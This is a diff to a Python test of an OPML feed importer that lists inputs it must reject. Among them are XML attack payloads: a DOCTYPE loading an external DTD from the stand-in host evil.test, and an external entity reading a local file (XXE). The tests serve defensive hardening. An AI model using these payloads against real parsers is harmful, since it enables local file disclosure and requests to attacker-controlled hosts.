@@ -202,7 +202,7 @@ def test_opml_as_readers_export_it() -> None:
         (b"<rss/>", "its root is 'rss'"),
         (opml(""), "names no feed"),
         (opml("", '<!DOCTYPE opml SYSTEM "http://evil.test/x.dtd">'), "document type"),
-        (opml('<outline xmlUrl="http://a.test/&x;"/>', '<!DOCTYPE o [<!ENTITY x SYSTEM "file:///x">]>'), "document type"),
+        (opml('<outline xmlUrl="http://a.test/&x;"/>', '<!DOCTYPE o [<!ENTITY x SYSTEM "file:///x">]>'), "type or ent"),
         (opml("", "<!DOCTYPE o>").decode().replace("UTF-8", "utf-16").encode("utf-16"), "document type"),
         (opml("<outline>" * 60 + "</outline>" * 60), "nested more than 50 deep"),
         (b" " * 20_000_001, "at most 20,000,000"),
